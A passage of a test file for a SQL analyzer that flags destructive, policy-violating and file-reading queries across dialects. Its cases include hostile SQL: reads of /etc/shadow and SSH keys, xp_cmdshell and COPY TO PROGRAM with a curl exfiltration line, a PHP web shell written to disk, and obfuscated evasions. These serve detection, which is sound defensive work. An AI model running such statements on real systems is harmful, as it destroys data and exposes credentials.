import { describe, expect, it } from 'vitest';
import type { SqlDialect } from '../catalog.ts';
import { topFinding } from '../codes.ts';
import { analyzeSql, analyzeSqlLexically } from './sql.ts';

const cases: [string, string | null][] = [
  ['SELECT * FROM users WHERE id = 1', null],
  ['INSERT INTO t (a) VALUES (1)', null],
  ['DELETE FROM t WHERE id = 3', null],
  ['UPDATE t SET a = 1 WHERE b = 2 AND c > 3', null],
  ['DELETE FROM t WHERE 1 = 0', null],
  ['DELETE FROM t', 'DEST_MUTATION'],
  ['UPDATE t SET a = 1', 'DEST_MUTATION'],
  ['DELETE FROM t WHERE 1=1', 'DEST_MUTATION'],
  ["UPDATE t SET a = 1 WHERE 'a' = 'a'", 'DEST_MUTATION'],
  ['DELETE FROM t WHERE TRUE', 'DEST_MUTATION'],
  ['DELETE FROM t WHERE id = 4 OR 2 > 1', 'DEST_MUTATION'],
  ['DELETE FROM t WHERE id = id', 'DEST_MUTATION'],
  ['DROP TABLE users', 'DEST_MUTATION'],
  ['DROP SCHEMA app CASCADE', 'DEST_MUTATION'],
  ['DROP DATABASE prod', 'DEST_MUTATION'],
  ['TRUNCATE orders', 'DEST_MUTATION'],
  ['WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', 'DEST_MUTATION'],
  ['CREATE TABLE t (a int)', 'POLICY_VIOLATION'],
  ['CREATE OR REPLACE VIEW v AS SELECT 1', 'POLICY_VIOLATION'],
  ['ALTER TABLE t ADD COLUMN b text', 'POLICY_VIOLATION'],
  ['CREATE INDEX i ON t (a)', 'POLICY_VIOLATION'],
  ['GRANT SELECT ON t TO bob', 'POLICY_VIOLATION'],
  ['REVOKE ALL ON t FROM bob', 'POLICY_VIOLATION'],
  ['CREATE ROLE admin SUPERUSER', 'POLICY_VIOLATION'],
  ['CREATE EXTENSION pgcrypto', 'POLICY_VIOLATION'],
  // MySQL and T-SQL quoting, which the PostgreSQL grammar only accepts once standardised.
  ['DELETE FROM `users`', 'DEST_MUTATION'],
  ['DROP TABLE [dbo].[users]', 'DEST_MUTATION'],
];

describe('analyzeSql', () => {
  it.each(cases)('%s -> %s', (sql, want) => {
    expect(analyzeSql(sql)[0]?.code ?? null).toBe(want);
  });

  it('judges batches statement by statement and says which one', () => {
    const findings = analyzeSql('SELECT 1; DROP TABLE t; CREATE TABLE u (a int)');
    expect(findings.map((f) => [f.code, f.location])).toEqual([
      ['DEST_MUTATION', 'statement 2'],
      ['POLICY_VIOLATION', 'statement 3'],
    ]);
  });

  it('ignores keywords inside strings and comments', () => {
    expect(analyzeSql("SELECT 'DROP TABLE t' AS x -- TRUNCATE t")).toEqual([]);
  });
});

describe('lexical fallback', () => {
  it.each([
    ['DROP /* x */ TABLE IF EXISTS t', 'DEST_MUTATION'],
    ['delete from t where 1', 'DEST_MUTATION'],
    ["delete from t where a = 'x'", null],
    ['TRUNCATE TABLE t', 'DEST_MUTATION'],
    ['CREATE PROCEDURE p() BEGIN SELECT 1; END', 'POLICY_VIOLATION'],
    ["SELECT 'DELETE FROM t'", null],
  ])('%s -> %s', (sql, want) => {
    expect(analyzeSqlLexically(sql)[0]?.code ?? null).toBe(want);
  });

  it('catches what the parser rejects', () => {
    expect(analyzeSql('DELETE FROM t WHERE 1=1 ORDER BY id LIMIT 10 ,,,')[0]?.code).toBe('DEST_MUTATION');
  });
});

type Case = [sql: string, dialect: SqlDialect | undefined, want: string | null];

const code = (sql: string, dialect?: SqlDialect) => topFinding(analyzeSql(sql, { dialect }))?.code ?? null;

describe('control flow and dynamic SQL', () => {
  const controlFlow: Case[] = [
    ["IF OBJECT_ID('dbo.T') IS NOT NULL DROP TABLE dbo.T", 'mssql', 'DEST_MUTATION'],
    ["IF OBJECT_ID('dbo.T') IS NOT NULL DROP TABLE dbo.T", undefined, 'DEST_MUTATION'],
    ['IF 1=1 BEGIN DROP TABLE t END', 'mssql', 'DEST_MUTATION'],
    ['IF 1=1 BEGIN DROP TABLE t; END', 'mssql', 'DEST_MUTATION'],
    ['IF 1=0 SELECT 1 ELSE TRUNCATE TABLE t', 'mssql', 'DEST_MUTATION'],
    ['BEGIN DELETE FROM t; END', 'mssql', 'DEST_MUTATION'],
    ['WHILE 1=1 BEGIN DELETE FROM t; END', 'mssql', 'DEST_MUTATION'],
    ['WHILE (SELECT COUNT(*) FROM t) > 0 DELETE TOP (100) FROM t', 'mssql', 'DEST_MUTATION'],
    ['SELECT 1\nGO\nDROP TABLE t', 'mssql', 'DEST_MUTATION'],
    ['CREATE PROCEDURE p AS BEGIN DROP TABLE t END', 'mssql', 'DEST_MUTATION'],
    ['DROP/**/TABLE/**/t', 'mssql', 'DEST_MUTATION'],
    // The MySQL client's DELIMITER: a body holding `;`, its statements as the client sends them.
    ['DELIMITER $$ CREATE PROCEDURE p() BEGIN DROP TABLE t; END $$', 'mysql', 'DEST_MUTATION'],
    [
      'DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END //\nDELIMITER ;\nCALL p();',
      'mysql',
      'DEST_MUTATION',
    ],
    ['DELIMITER $$ CREATE PROCEDURE p() BEGIN DROP TABLE t; END $$', undefined, 'DEST_MUTATION'],
    ['SELECT 1; DELIMITER $$ SELECT 2 $$', 'mysql', null],
    ["SELECT 'delimiter $$'", 'mysql', null],
    // Two words to every dialect: a syntax error, nothing runs.
    ['DR/**/OP TABLE t', 'mssql', null],
    ['dRoP tAbLe t', 'mssql', 'DEST_MUTATION'],
    // Benign look-alikes.
    ["IF OBJECT_ID('dbo.T') IS NULL SELECT 1", 'mssql', null],
    ['WHILE @i < 10 BEGIN SET @i = @i + 1; END', 'mssql', null],
    ['BEGIN TRAN; DELETE FROM t WHERE id = 1; COMMIT', 'mssql', null],
    ["SELECT CASE WHEN a = 1 THEN 'x' ELSE 'y' END FROM t WHERE id = 2", 'mssql', null],
    ['DROP TABLE IF EXISTS t', 'mssql', 'DEST_MUTATION'],
    ['SELECT TOP 10 [name] FROM [dbo].[users] WITH (NOLOCK) WHERE id = 1', 'mssql', null],
  ];
  const dynamic: Case[] = [
    ["EXEC('DROP TABLE Users')", 'mssql', 'DEST_MUTATION'],
    ["EXEC('DROP TABLE Users')", undefined, 'DEST_MUTATION'],
    ["EXECUTE('DELETE FROM t')", 'mssql', 'DEST_MUTATION'],
    ["EXEC sp_executesql N'DROP TABLE Users'", 'mssql', 'DEST_MUTATION'],
    ["EXEC sp_executesql @stmt = N'TRUNCATE TABLE t'", 'mssql', 'DEST_MUTATION'],
    ["exec('dro'+'p table t')", 'mssql', 'DEST_MUTATION'],
    ["EXEC('EXEC(''DROP TABLE t'')')", 'mssql', 'DEST_MUTATION'],
    ["DECLARE @sql nvarchar(max) = N'DROP TABLE t'; EXEC(@sql)", 'mssql', 'DEST_MUTATION'],
    ["DECLARE @s NVARCHAR(100); SET @s = N'DROP TABLE x'; EXEC sp_executesql @s", 'mssql', 'DEST_MUTATION'],
    ["EXEC('SELECT 1; DROP TABLE t')", 'mssql', 'DEST_MUTATION'],
    ["EXEC(N'CREATE TABLE t (a int)')", 'mssql', 'POLICY_VIOLATION'],
    ['EXEC(@sql)', 'mssql', 'POLICY_VIOLATION'],
    // CHAR() of literals is computed; a literal that begins a drop is one, whatever name follows.
    ["EXEC(CHAR(68)+'ROP TABLE t')", 'mssql', 'DEST_MUTATION'],
    ["EXEC('DROP TABLE ' + @name)", 'mssql', 'DEST_MUTATION'],
    ["EXEC('SELECT * FROM ' + @name)", 'mssql', 'POLICY_VIOLATION'],
    ["EXECUTE IMMEDIATE 'DROP TABLE t'", 'snowflake', 'DEST_MUTATION'],
    ["DECLARE q STRING DEFAULT 'DROP TABLE t'; EXECUTE IMMEDIATE q", 'bigquery', 'DEST_MUTATION'],
    ["PREPARE s FROM 'DROP TABLE t'", 'mysql', 'DEST_MUTATION'],
    ["SET @q = 'DROP TABLE t'; PREPARE s FROM @q; EXECUTE s", 'mysql', 'DEST_MUTATION'],
    ["SET @q = CONCAT('DROP ', 'TABLE t'); PREPARE s FROM @q", 'mysql', 'DEST_MUTATION'],
    ['PREPARE s FROM @unknown', 'mysql', 'POLICY_VIOLATION'],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", 'postgres', 'DEST_MUTATION'],
    ["DO $$ BEGIN IF true THEN EXECUTE 'DEL' || 'ETE FROM t'; END IF; END $$", 'postgres', 'DEST_MUTATION'],
    [
      "DO $$ DECLARE t text := 'x'; BEGIN EXECUTE format('DROP TABLE %I', t); END $$",
      'postgres',
      'DEST_MUTATION',
    ],
    ['DO $$ BEGIN DELETE FROM t; END $$', 'postgres', 'DEST_MUTATION'],
    ["DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", 'postgres', 'FILESYSTEM_DENIED'],
    [
      'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$',
      'postgres',
      'DEST_MUTATION',
    ],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ TRUNCATE t $$', 'postgres', 'DEST_MUTATION'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'postgres', 'POLICY_VIOLATION'],
    ['PREPARE p AS DELETE FROM t; EXECUTE p', 'postgres', 'DEST_MUTATION'],
    // Benign look-alikes.
    ["EXEC('SELECT 1')", 'mssql', null],
    ["EXEC sp_executesql N'SELECT * FROM t WHERE id = @id', N'@id int', @id = 1", 'mssql', null],
    ['EXEC dbo.refresh_stats @days = 3', 'mssql', null],
    ["SELECT 'EXEC(''DROP TABLE t'')' AS x", 'mssql', null],
    ["PREPARE s FROM 'SELECT * FROM t WHERE id = ?'; EXECUTE s USING @id", 'mysql', null],
    ["SET @q = 'SELECT 1'; PREPARE s FROM @q", 'mysql', null],
    // A DO block is judged by what it runs, not refused as DDL.
    ["DO $$ BEGIN RAISE NOTICE 'DROP TABLE t'; END $$", 'postgres', null],
    ['PREPARE p AS SELECT * FROM t WHERE id = $1; EXECUTE p(1)', 'postgres', null],
  ];
  it.each([...controlFlow, ...dynamic])('%s [%s] -> %s', (sql, dialect, want) => {
    expect(code(sql, dialect)).toBe(want);
  });

  it('says what it resolved', () => {
    const [first] = analyzeSql("EXEC('DROP TABLE Users')", { dialect: 'mssql' });
    expect(first?.message).toBe("after resolving EXEC('DROP TABLE Users'): DROP TABLE Users");
    const [opaque] = analyzeSql('EXEC(@sql)', { dialect: 'mssql' });
    expect(opaque?.message).toContain('@sql');
    const [format] = analyzeSql("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$");
    expect(format?.message).toContain("after resolving EXECUTE 'DROP TABLE x'");
  });

  it('stops resolving past its depth budget', () => {
    let sql = 'DROP TABLE t';
    for (let i = 0; i < 8; i++) sql = `EXEC('${sql.replaceAll("'", "''")}')`;
    expect(code(sql, 'mssql')).toBe('POLICY_VIOLATION');
  });
});

describe('server-side files and programs', () => {
  const files: Case[] = [
    ["SELECT pg_read_file('/etc/passwd')", 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT pg_read_file('/etc/passwd')", undefined, 'FILESYSTEM_DENIED'],
    ["SELECT pg_read_file('data/report.csv')", 'postgres', 'POLICY_VIOLATION'],
    ["SELECT PG_READ_BINARY_FILE('/root/.ssh/id_rsa')", 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT pg_catalog.pg_ls_dir('/etc')", 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT * FROM pg_stat_file('/var/lib/x')", 'postgres', 'POLICY_VIOLATION'],
    ["SELECT lo_import('/etc/shadow')", 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT lo_export(1234, '/tmp/x')", 'postgres', 'POLICY_VIOLATION'],
    ['SELECT "pg_read_file"(\'/etc/passwd\')', 'postgres', 'FILESYSTEM_DENIED'],
    ["COPY t TO PROGRAM 'curl -d @- https://x.example'", 'postgres', 'POLICY_VIOLATION'],
    ["COPY t FROM PROGRAM 'cat /etc/shadow'", 'postgres', 'FILESYSTEM_DENIED'],
    ["COPY t TO '/tmp/out.csv'", 'postgres', 'POLICY_VIOLATION'],
    ["COPY t FROM '/etc/passwd'", 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT LOAD_FILE('/etc/passwd')", 'mysql', 'FILESYSTEM_DENIED'],
    ["SELECT load_file('/var/www/x')", 'mysql', 'POLICY_VIOLATION'],
    ["SELECT * FROM t INTO OUTFILE '/tmp/x'", 'mysql', 'POLICY_VIOLATION'],
    ["SELECT a INTO DUMPFILE '/etc/cron.d/x' FROM t", 'mysql', 'FILESYSTEM_DENIED'],
    ["LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", 'mysql', 'FILESYSTEM_DENIED'],
    ["LOAD DATA INFILE 'data.csv' INTO TABLE t", 'mysql', 'POLICY_VIOLATION'],
    ["EXEC xp_cmdshell 'dir'", 'mssql', 'POLICY_VIOLATION'],
    ["EXEC master..xp_cmdshell 'cat /etc/shadow'", 'mssql', 'FILESYSTEM_DENIED'],
    ["EXEC('xp_cmdshell ''dir''')", 'mssql', 'POLICY_VIOLATION'],
    ["SELECT * FROM OPENROWSET(BULK 'C:\\data\\x.txt', SINGLE_CLOB) AS x", 'mssql', 'POLICY_VIOLATION'],
    ["SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t", 'mssql', 'POLICY_VIOLATION'],
    ["BULK INSERT t FROM 'C:\\data.csv'", 'mssql', 'POLICY_VIOLATION'],
    ["ATTACH DATABASE '/etc/x.db' AS x", 'sqlite', 'FILESYSTEM_DENIED'],
    ["ATTACH 'other.db' AS o", 'sqlite', 'POLICY_VIOLATION'],
    ["SELECT load_extension('/tmp/evil.so')", 'sqlite', 'POLICY_VIOLATION'],
    ["SELECT sys_exec('id')", 'mysql', 'POLICY_VIOLATION'],
    ["SELECT sys_eval('cat /etc/shadow')", 'mysql', 'FILESYSTEM_DENIED'],
    // Benign look-alikes: the same words as data or names.
    ["SELECT 'pg_read_file' AS x", 'postgres', null],
    ["SELECT 'pg_read_file(''/etc/passwd'')' AS x", undefined, null],
    ['SELECT outfile, infile FROM jobs WHERE id = 1', 'mysql', null],
    ['SELECT pg_read_file FROM t', 'postgres', null],
    ["SELECT * FROM t WHERE note = 'INTO OUTFILE /etc/x'", 'mysql', null],
    ['SELECT xp_cmdshell FROM audit WHERE id = 1', 'mssql', null],
    ["ATTACH DATABASE ':memory:' AS aux", 'sqlite', null],
    ['COPY t TO STDOUT', 'postgres', null],
    ['COPY t FROM STDIN WITH (FORMAT csv)', 'postgres', null],
    ['SELECT * FROM bulk_insert_log', 'mssql', null],
  ];
  it.each(files)('%s [%s] -> %s', (sql, dialect, want) => {
    expect(code(sql, dialect)).toBe(want);
  });
});

describe('session-local DDL', () => {
  const temp: Case[] = [
    ['CREATE TEMP TABLE x (a int)', 'postgres', null],
    ['CREATE TEMPORARY TABLE x (a int)', 'mysql', null],
    ['CREATE TEMPORARY TABLE x AS SELECT 1', 'sqlite', null],
    ['CREATE TABLE #tmp (a int); INSERT INTO #tmp VALUES (1); DROP TABLE #tmp', 'mssql', null],
    ['SELECT * INTO #t FROM x WHERE id = 1', 'mssql', null],
    ['DECLARE @t TABLE (a int); INSERT INTO @t VALUES (1)', 'mssql', null],
    ['CREATE TEMP TABLE temp_x (a int); DROP TABLE IF EXISTS temp_x', 'postgres', null],
    ['CREATE TEMPORARY TABLE temp_x (a int); DROP TABLE temp_x', 'mysql', null],
    ['CREATE TEMP TABLE temp_x (a int); DELETE FROM temp_x', 'sqlite', null],
    ['DROP TABLE pg_temp.scratch', 'postgres', null],
    // Not temporary: a table of the same name dropped before it was created, or another one.
    ['DROP TABLE IF EXISTS temp_x', 'postgres', 'DEST_MUTATION'],
    ['DROP TABLE temp_x; CREATE TEMP TABLE temp_x (a int)', 'postgres', 'DEST_MUTATION'],
    ['CREATE TEMP TABLE a (x int); DROP TABLE a, b', 'postgres', 'DEST_MUTATION'],
    ['CREATE TABLE x (a int)', 'mysql', 'POLICY_VIOLATION'],
    ['DROP TABLE ##global_tmp', 'mssql', null],
    [
      `DROP TABLE ${Array.from({ length: 100 }, (_, i) => `#t${i}`).join(', ')}, users`,
      'mssql',
      'DEST_MUTATION',
    ],
    [
      "CREATE TEMP VIEW recent AS SELECT * FROM orders WHERE created_at > now() - interval '1 hour'",
      'postgres',
      null,
    ],
    ['CREATE TEMPORARY VIEW v AS SELECT 1', 'sqlite', null],
    ['CREATE TEMP SEQUENCE s', 'postgres', null],
    ['CREATE VIEW v AS SELECT 1', 'sqlite', 'POLICY_VIOLATION'],
    ["CREATE TEMP VIEW v AS SELECT pg_read_file('/etc/passwd')", 'postgres', 'FILESYSTEM_DENIED'],
  ];
  it.each(temp)('%s [%s] -> %s', (sql, dialect, want) => {
    expect(code(sql, dialect)).toBe(want);
  });
});

describe('dialect readings an attacker could exploit', () => {
  const readings: Case[] = [
    // MySQL: a backslash escapes the quote, so the DROP runs.
    ["SELECT '\\''; DROP TABLE t; -- '", 'mysql', 'DEST_MUTATION'],
    // With no dialect, a statement hidden from one reading by another's strings still counts.
    ["SELECT '\\''; DROP TABLE t; -- '", undefined, 'DEST_MUTATION'],
    ['SELECT 1 /* /* */; DROP TABLE t; /* */', undefined, 'DEST_MUTATION'],
    ["SELECT 'a\\b' AS path, '#1' AS tag", undefined, null],
    // SQLite comments do not nest, so the DROP runs.
    ['SELECT 1 /* /* */; DROP TABLE t; /* */', 'sqlite', 'DEST_MUTATION'],
    // Semicolons and keywords inside strings.
    ["SELECT 'a; DROP TABLE t' AS x", 'mysql', null],
    ["SELECT N'DROP TABLE t; TRUNCATE u' AS x", 'mssql', null],
    ['SELECT `drop` FROM `table` WHERE id = 1', 'mysql', null],
    ['DELETE FROM `users`', 'mariadb', 'DEST_MUTATION'],
    ['SELECT * FROM `proj.ds.t` WHERE id = 1', 'bigquery', null],
    ['DELETE FROM `proj.ds.t` WHERE TRUE', 'bigquery', 'DEST_MUTATION'],
    ['DROP SCHEMA analytics', 'snowflake', 'DEST_MUTATION'],
  ];
  it.each(readings)('%s [%s] -> %s', (sql, dialect, want) => {
    expect(code(sql, dialect)).toBe(want);
  });
});

describe('ways around the rules', () => {
  const evasions: Case[] = [
    // dynamic SQL built around a destructive verb, whatever names the query appends
    [
      "DECLARE @sql nvarchar(max); SELECT @sql = STRING_AGG(N'DROP TABLE ' + QUOTENAME(name), N'; ') FROM sys.tables; EXEC sp_executesql @sql;",
      'mssql',
      'DEST_MUTATION',
    ],
    [
      "DECLARE @sql nvarchar(max); SELECT @sql = STRING_AGG(N'SELECT COUNT(*) FROM ' + QUOTENAME(name), N' UNION ALL ') FROM sys.tables; EXEC sp_executesql @sql;",
      'mssql',
      'POLICY_VIOLATION',
    ],
    [
      "SELECT CONCAT('DROP TABLE ', GROUP_CONCAT(table_name)) INTO @d FROM information_schema.tables; PREPARE s FROM @d; EXECUTE s;",
      'mysql',
      'DEST_MUTATION',
    ],
    [
      "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE format('TRUNCATE TABLE %I CASCADE', r.tablename); END LOOP; END $$",
      'postgres',
      'DEST_MUTATION',
    ],
    [
      "DO $do$ BEGIN EXECUTE format('DROP SCHEMA %I CASCADE', 'billing'); END $do$",
      'postgres',
      'DEST_MUTATION',
    ],
    ["DO $do$ BEGIN EXECUTE format('SELECT %L', 'x'); END $do$", 'postgres', null],
    ["DO $$ BEGIN EXECUTE 'DELETE FROM ' || quote_ident('customers'); END $$", 'postgres', 'DEST_MUTATION'],
    [
      "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM users) THEN RAISE NOTICE 'none'; END IF; END $$",
      'postgres',
      null,
    ],
    ['SELECT COUNT(*) INTO @n FROM users', 'mysql', null],
    // MERGE on an always-true condition; a plain EXPLAIN runs nothing
    [
      'MERGE INTO dbo.Customers AS t USING (SELECT 1 AS k) AS s ON (1 = 1) WHEN MATCHED THEN DELETE;',
      'mssql',
      'DEST_MUTATION',
    ],
    ['MERGE INTO dbo.Customers AS t USING s ON (t.id = s.id) WHEN MATCHED THEN DELETE;', 'mssql', null],
    ['MERGE INTO customers t USING staging s ON true WHEN MATCHED THEN DELETE', 'postgres', 'DEST_MUTATION'],
    ['MERGE INTO customers t USING staging s ON t.id = s.id WHEN MATCHED THEN DELETE', 'postgres', null],
    ['EXPLAIN DELETE FROM orders', 'postgres', null],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'postgres', 'DEST_MUTATION'],
    ['EXPLAIN DELETE FROM orders', 'mysql', null],
    // tautologies in other shapes
    ['DELETE FROM orders WHERE 1 IN (1)', 'postgres', 'DEST_MUTATION'],
    ['DELETE FROM orders WHERE 1 IN (1)', 'mysql', 'DEST_MUTATION'],
    ['DELETE FROM orders WHERE 1 IN (2, 3)', 'postgres', null],
    ['DELETE FROM notes WHERE rowid IN (SELECT rowid FROM notes)', 'sqlite', 'DEST_MUTATION'],
    ['DELETE FROM notes WHERE id IN (SELECT id FROM notes)', 'postgres', 'DEST_MUTATION'],
    ['DELETE FROM notes WHERE id IN (SELECT note_id FROM trash)', 'postgres', null],
    ['DELETE FROM notes WHERE rowid IN (SELECT rowid FROM notes WHERE archived = 1)', 'sqlite', null],
    ['DELETE FROM customers WHERE id IS NULL OR id IS NOT NULL', 'mariadb', 'DEST_MUTATION'],
    ['DELETE FROM customers WHERE id IS NULL OR id IS NOT NULL', undefined, 'DEST_MUTATION'],
    ["DELETE FROM customers WHERE name LIKE '%'", 'mysql', 'DEST_MUTATION'],
    ["DELETE FROM customers WHERE name LIKE '%'", undefined, 'DEST_MUTATION'],
    ["DELETE FROM customers WHERE name LIKE 'a%'", 'mysql', null],
    ['DELETE FROM customers WHERE id IS NULL', 'mysql', null],
    // file paths written in hex, with CHAR() or CONCAT()
    ['SELECT LOAD_FILE(0x2f726f6f742f2e6d7973716c5f686973746f7279)', 'mysql', 'FILESYSTEM_DENIED'],
    ["SELECT LOAD_FILE(CONCAT('/et','c/passwd'))", 'mysql', 'FILESYSTEM_DENIED'],
    ['SELECT LOAD_FILE(CHAR(47,101,116,99,47,115,104,97,100,111,119))', 'mysql', 'FILESYSTEM_DENIED'],
    ["SELECT LOAD_FILE(CONCAT('/var/lib/','data.csv'))", 'mysql', 'POLICY_VIOLATION'],
    ["eXeC('drop table t')", 'mssql', 'DEST_MUTATION'],
    ["EXEC/**/('DROP TABLE t')", 'mssql', 'DEST_MUTATION'],
    ["EXEC('DROP/**/TABLE t')", 'mssql', 'DEST_MUTATION'],
    ["EXEC(N'DR' + N'OP TABLE t')", 'mssql', 'DEST_MUTATION'],
    ["EXECUTE sp_executesql N'EXEC(N''DROP TABLE t'')'", 'mssql', 'DEST_MUTATION'],
    ["DECLARE @a varchar(10) = 'DROP', @b varchar(20) = ' TABLE t'; EXEC(@a + @b)", 'mssql', 'DEST_MUTATION'],
    [
      "DECLARE @q nvarchar(99) = N'SELECT 1'; SET @q = (SELECT cmd FROM jobs); EXEC(@q)",
      'mssql',
      'POLICY_VIOLATION',
    ],
    ["INSERT INTO t EXEC('DROP TABLE x')", 'mssql', 'DEST_MUTATION'],
    ["EXEC [master].[dbo].[xp_cmdshell] 'dir'", 'mssql', 'POLICY_VIOLATION'],
    ["DECLARE @c varchar(99) = 'whoami'; EXEC xp_cmdshell @c", 'mssql', 'POLICY_VIOLATION'],
    ["EXEC sp_configure 'xp_cmdshell', 1", 'mssql', 'POLICY_VIOLATION'],
    ["SET @q = 'SELECT 1'; SET @q = 'DROP TABLE t'; PREPARE s FROM @q", 'mysql', 'DEST_MUTATION'],
    // A variable set in branches may hold any of its values.
    ["IF @x = 1 SET @q = 'DROP TABLE t' ELSE SET @q = 'SELECT 1'; EXEC(@q)", 'mssql', 'DEST_MUTATION'],
    [
      "DECLARE @q nvarchar(99); IF 1 = 0 SET @q = N'TRUNCATE TABLE t'; SET @q = N'SELECT 1'; EXEC(@q)",
      'mssql',
      'DEST_MUTATION',
    ],
    ["DECLARE @q nvarchar(99) = N'SELECT 1'; SET @q = N'SELECT 2'; EXEC(@q)", 'mssql', null],
    ["SET @q = (SELECT cmd FROM jobs); SET @q = 'SELECT 1'; EXEC(@q)", 'mssql', 'POLICY_VIOLATION'],
    ["DECLARE @q nvarchar(99) = N'DROP TABLE a'; EXEC(@q + N', b')", 'mssql', 'DEST_MUTATION'],
    ['PREPARE s FROM "DROP TABLE t"', 'mysql', 'DEST_MUTATION'],
    // MySQL runs the inside of /*! … */ comments.
    ['SELECT 1 /*!50000 ; DROP TABLE t */', 'mysql', 'DEST_MUTATION'],
    ['/*!DROP TABLE t*/', undefined, 'DEST_MUTATION'],
    ["SELECT * FROM t /*!INTO OUTFILE '/tmp/x' */", 'mariadb', 'POLICY_VIOLATION'],
    ['SELECT 1--1; DROP TABLE t', 'mysql', 'DEST_MUTATION'],
    ["SELECT 1 # '; DROP TABLE t", 'mysql', null],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", 'postgres', 'DEST_MUTATION'],
    ["DO $$ DECLARE q text := 'DROP TABLE t'; BEGIN EXECUTE q; END $$", 'postgres', 'DEST_MUTATION'],
    [
      "DO $$ DECLARE q text := 'SELECT 1'; BEGIN q := 'SELECT 2'; EXECUTE q; END $$",
      'postgres',
      'POLICY_VIOLATION',
    ],
    ['DO $x$ BEGIN EXECUTE $q$TRUNCATE t$q$; END $x$', 'postgres', 'DEST_MUTATION'],
    ["DO LANGUAGE plpython3u $$ import os; os.system('id') $$", 'postgres', 'POLICY_VIOLATION'],
    ["SELECT pg_read_file('/et' || 'c/passwd')", 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT pg_read_file('/tmp/../etc/passwd')", 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT PG_READ_FILE(E'/etc/\\x70asswd')", 'postgres', 'FILESYSTEM_DENIED'],
    ['SELECT pg_read_file($$/etc/shadow$$)', 'postgres', 'FILESYSTEM_DENIED'],
    [
      "SELECT pg_read_file(current_setting('data_directory') || '/pg_hba.conf')",
      'postgres',
      'POLICY_VIOLATION',
    ],
    ['COPY (SELECT 1) TO PROGRAM \'sh -c "cat /etc/shadow"\'', 'postgres', 'FILESYSTEM_DENIED'],
    ["SELECT 1; COPY t FROM PROGRAM 'id'", undefined, 'POLICY_VIOLATION'],
    ["SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/s.php'", 'mysql', 'POLICY_VIOLATION'],
    ['select load_file(0x2f6574632f706173737764)', 'mysql', 'FILESYSTEM_DENIED'],
    ['SELECT * FROM t WHERE id = 1; DROP TABLE t', 'mssql', 'DEST_MUTATION'],
    ["SELECT 1; SELECT 'x'; DELETE FROM t", 'sqlite', 'DEST_MUTATION'],
    // Benign look-alikes of the evasions.
    ["SELECT 'EXEC(''DR'' + ''OP TABLE t'')'", 'mssql', null],
    ['SELECT 1 /* DROP TABLE t */', 'mysql', null],
    ['SELECT 1 -- DROP TABLE t', 'mysql', null],
    ["SET @q = 'DROP TABLE t'", 'mysql', null],
    ["DECLARE @q nvarchar(99) = N'DROP TABLE t'; SELECT @q", 'mssql', null],
    ["SELECT concat('pg_read_file', '(x)') AS s", 'postgres', null],
  ];
  it.each(evasions)('%s [%s] -> %s', (sql, dialect, want) => {
    expect(code(sql, dialect)).toBe(want);
  });
});

describe('more of each rule', () => {
  const more: Case[] = [
    ['SELECT * INTO TEMP scratch FROM t WHERE id = 1', 'postgres', null],
    ['SELECT * INTO archive FROM t', 'postgres', 'POLICY_VIOLATION'],
    [
      "CREATE FUNCTION f() RETURNS SETOF t LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'DELETE FROM t RETURNING *'; END $$",
      'postgres',
      'DEST_MUTATION',
    ],
    [
      "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT pg_ls_dir(''/root'')'; END $$",
      'postgres',
      'FILESYSTEM_DENIED',
    ],
    ["DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$", 'postgres', null],
    ["SELECT * FROM OPENQUERY(remote, 'SELECT 1')", 'mssql', 'POLICY_VIOLATION'],
    ["EXEC sp_OACreate 'WScript.Shell', @o OUT", 'mssql', 'POLICY_VIOLATION'],
    ["SELECT writefile('/etc/cron.d/x', 'x')", 'sqlite', 'FILESYSTEM_DENIED'],
    ['SELECT readfile(name) FROM files', 'sqlite', 'POLICY_VIOLATION'],
    ["IF OBJECT_ID('tempdb..#t') IS NOT NULL DROP TABLE #t", 'mssql', null],
    ['CREATE TEMP TABLE x (a int); TRUNCATE x', 'postgres', null],
    ['CREATE TEMPORARY TABLE x (a int); UPDATE x SET a = 1', 'mysql', null],
    // A procedure's name in a variable is opaque; a literal one is resolved.
    ["DECLARE @p sysname = 'xp_cmdshell'; EXEC @p 'dir'", 'mssql', 'POLICY_VIOLATION'],
    ['EXEC @proc', 'mssql', 'POLICY_VIOLATION'],
    ["DECLARE @p sysname = 'dbo.refresh'; EXEC @p", 'mssql', null],
  ];
  it.each(more)('%s [%s] -> %s', (sql, dialect, want) => {
    expect(code(sql, dialect)).toBe(want);
  });

  const doors: Case[] = [
    ["sp_executesql N'DROP TABLE t'", 'mssql', 'DEST_MUTATION'],
    ["BEGIN TRY EXEC('DROP TABLE t') END TRY BEGIN CATCH SELECT 1 END CATCH", 'mssql', 'DEST_MUTATION'],
    ['DELETE FROM t WHERE NOT 0', 'mysql', 'DEST_MUTATION'],
    ["SELECT dblink_exec('dbname=prod', 'DROP TABLE users')", 'postgres', 'DEST_MUTATION'],
    ["SELECT * FROM dblink('dbname=prod', 'SELECT id FROM users') AS t(id int)", 'postgres', null],
